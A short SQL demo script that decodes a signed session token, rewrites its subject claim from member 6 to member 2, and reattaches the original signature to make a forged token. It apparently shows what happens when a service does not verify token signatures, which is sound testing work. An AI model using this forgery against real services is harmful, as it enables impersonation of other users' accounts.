-- demo/forged.sql: what a token says, and the same token made to say that it is another
-- member's, with the signature that it had:  what | token

SELECT said, header || '.' || rtrim(translate(encode(convert_to(replace(said, '"sub":"6"', '"sub":"2"'), 'UTF8'), 'base64'), E'+/\n', '-_'), '=') || '.' || signature
FROM (SELECT split_part(:'token', '.', 1) AS header, translate(split_part(:'token', '.', 2), '-_', '+/') AS body, split_part(:'token', '.', 3) AS signature) AS t
CROSS JOIN LATERAL (SELECT convert_from(decode(rpad(body, (length(body) + 3) / 4 * 4, '='), 'base64'), 'UTF8') AS said) AS s;
